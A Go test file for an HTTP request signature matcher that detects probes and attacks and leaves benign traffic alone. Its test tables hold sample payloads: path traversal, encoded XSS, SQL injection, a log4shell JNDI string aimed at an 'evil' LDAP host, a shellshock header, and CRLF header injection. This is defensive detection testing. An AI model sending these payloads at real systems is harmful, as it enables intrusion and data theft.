package signature

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestDefaultSignaturesCompile(t *testing.T) {
	m, err := New(DefaultSignatures())
	require.NoError(t, err)
	assert.Equal(t, len(DefaultSignatures()), m.Len())
}

func TestDefaultSignaturesDetectProbes(t *testing.T) {
	m := MustNew(DefaultSignatures())

	tests := []struct {
		name   string
		path   string
		query  string
		header http.Header
		want   string
	}{
		{name: "dotenv", path: "/.env", want: "dotenv-probe"},
		{name: "dotenv backup", path: "/.env.bak", want: "dotenv-probe"},
		{name: "git head", path: "/.git/HEAD", want: "git-metadata"},
		{name: "wp login mixed case", path: "/WP-LOGIN.php", want: "wordpress-login"},
		{name: "phpmyadmin", path: "/phpMyAdmin/index.php", want: "phpmyadmin-probe"},
		{name: "traversal in query", path: "/download", query: "file=../../etc/passwd", want: "path-traversal"},
		{name: "encoded traversal", path: "/static/%2e%2e%2fsecret", want: "encoded-traversal"},
		{name: "encoded script", path: "/search", query: "q=%3Cscript%3Ealert(1)%3C/script%3E", want: "script-tag"},
		{name: "img onerror", path: "/c", query: "x=<img src=x onerror=alert(1)>", want: "event-handler"},
		{name: "union select", path: "/items", query: "id=1+UNION+SELECT+password+FROM+users", want: "sql-union-select"},
		{name: "drop table", path: "/items", query: "id=1;DROP TABLE users", want: "sql-drop"},
		{name: "tautology", path: "/login", query: "user=admin' or 1=1", want: "sql-tautology"},
		{name: "jndi", path: "/x", query: "q=${jndi:ldap://evil/a}", want: "log4shell"},
		{
			name:   "sqlmap ua",
			path:   "/",
			header: http.Header{"User-Agent": {"sqlmap/1.7.2#stable (https://sqlmap.org)"}},
			want:   "scanner-sqlmap",
		},
		{
			name:   "nikto ua",
			path:   "/index.html",
			header: http.Header{"User-Agent": {"Mozilla/5.00 (Nikto/2.1.6)"}},
			want:   "scanner-nikto",
		},
		{
			name:   "shellshock",
			path:   "/cgi",
			header: http.Header{"User-Agent": {"() { :; }; /bin/bash -c 'id'"}},
			want:   "shellshock",
		},
		{
			name:   "oversized header",
			path:   "/",
			header: http.Header{"X-Padding": {strings.Repeat("a", 9000)}},
			want:   "oversized-header",
		},
		{
			name:   "control chars",
			path:   "/",
			header: http.Header{"X-Injected": {"value\r\nSet-Cookie: a=b"}},
			want:   "header-control-chars",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := tt.header
			if h == nil {
				h = http.Header{}
			}
			got, ok := m.Match(tt.path, tt.query, h)
			require.True(t, ok, "expected %s to match", tt.want)
			assert.Equal(t, tt.want, got.Name)
		})
	}
}

func TestDefaultSignaturesIgnoreBenignTraffic(t *testing.T) {
	m := MustNew(DefaultSignatures())

	browser := http.Header{
		"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
		"Accept":          {"text/html,application/xhtml+xml"},
		"Accept-Language": {"en-US,en;q=0.9"},
		"Cookie":          {"session=abc123; theme=dark"},
	}

	benign := []struct {
		path  string
		query string
	}{
		{"/", ""},
		{"/api/users/42", ""},
		{"/search", "q=hello+world&page=2"},
		{"/search", "q=select+a+plan"},
		{"/blog/2024/01/drop-shipping-guide", ""},
		{"/static/js/app.min.js", "v=3"},
		{"/.well-known/acme-challenge/token", ""},
		{"/docs/information", ""},
		{"/products", "sort=price&order=asc"},
	}

	for _, b := range benign {
		got, ok := m.Match(b.path, b.query, browser)
		assert.False(t, ok, "%s?%s matched %s", b.path, b.query, got.Name)
	}
}

func TestFirstMatchWins(t *testing.T) {
	m := MustNew([]Signature{
		{Name: "first", Kind: Contains, Pattern: "admin"},
		{Name: "second", Kind: PathPrefix, Pattern: "/admin"},
	})

	got, ok := m.Match("/admin/panel", "", nil)
	require.True(t, ok)
	assert.Equal(t, Match{Name: "first", Kind: Contains}, got)
}

func TestKinds(t *testing.T) {
	tests := []struct {
		name  string
		sig   Signature
		path  string
		query string
		h     http.Header
		want  bool
	}{
		{"exact hit", Signature{Kind: ExactPath, Pattern: "/secret"}, "/SECRET", "", nil, true},
		{"exact miss on suffix", Signature{Kind: ExactPath, Pattern: "/secret"}, "/secret/x", "", nil, false},
		{"prefix hit", Signature{Kind: PathPrefix, Pattern: "/Private"}, "/private/file", "", nil, true},
		{"prefix ignores query", Signature{Kind: PathPrefix, Pattern: "/private"}, "/", "next=/private", nil, false},
		{"contains query", Signature{Kind: Contains, Pattern: "EVIL"}, "/", "a=evil", nil, true},
		{"regex", Signature{Kind: Regex, Pattern: `id=\d{5,}`}, "/x", "id=123456", nil, true},
		{"regex miss", Signature{Kind: Regex, Pattern: `id=\d{5,}`}, "/x", "id=12", nil, false},
		{
			"header contains",
			Signature{Kind: HeaderContains, Header: "x-probe", Pattern: "BAD"},
			"/", "", http.Header{"X-Probe": {"ok", "very bad"}}, true,
		},
		{
			"header contains other header",
			Signature{Kind: HeaderContains, Header: "X-Probe", Pattern: "bad"},
			"/", "", http.Header{"X-Other": {"bad"}}, false,
		},
		{
			"header regex",
			Signature{Kind: HeaderRegex, Header: "Referer", Pattern: `^https?://spam\.`},
			"/", "", http.Header{"Referer": {"http://spam.example/"}}, true,
		},
		{
			"named header too long",
			Signature{Kind: HeaderTooLong, Header: "X-Token", MaxLen: 4},
			"/", "", http.Header{"X-Token": {"12345"}}, true,
		},
		{
			"named header at limit",
			Signature{Kind: HeaderTooLong, Header: "X-Token", MaxLen: 5},
			"/", "", http.Header{"X-Token": {"12345"}, "X-Other": {"1234567"}}, false,
		},
		{
			"null byte in header",
			Signature{Kind: HeaderControlChars},
			"/", "", http.Header{"X-A": {"a\x00b"}}, true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.sig.Name = "test"
			m, err := New([]Signature{tt.sig})
			require.NoError(t, err)

			h := tt.h
			if h == nil {
				h = http.Header{}
			}
			_, ok := m.Match(tt.path, tt.query, h)
			assert.Equal(t, tt.want, ok)
		})
	}
}

func TestNewRejectsInvalid(t *testing.T) {
	invalid := []Signature{
		{Kind: Contains, Pattern: "x"},
		{Name: "k", Kind: "glob", Pattern: "*"},
		{Name: "p", Kind: Contains},
		{Name: "r", Kind: Regex, Pattern: "(unclosed"},
		{Name: "h", Kind: HeaderContains, Pattern: "x"},
		{Name: "l", Kind: HeaderTooLong},
	}

	for _, sig := range invalid {
		_, err := New([]Signature{sig})
		assert.ErrorIs(t, err, ErrInvalidSignature, "%+v", sig)
	}

	assert.Panics(t, func() { MustNew(invalid[:1]) })
}

func TestEmptyMatcher(t *testing.T) {
	var m *Matcher
	_, ok := m.Match("/.env", "", nil)
	assert.False(t, ok)

	m = MustNew(nil)
	_, ok = m.Match("/.env", "", nil)
	assert.False(t, ok)
}

func TestMatchRequest(t *testing.T) {
	m := MustNew(DefaultSignatures())

	r := httptest.NewRequest(http.MethodGet, "/wp-admin/install.php", nil)
	got, ok := m.MatchRequest(r)
	require.True(t, ok)
	assert.Equal(t, "wordpress-admin", got.Name)

	_, ok = m.MatchRequest(nil)
	assert.False(t, ok)
}
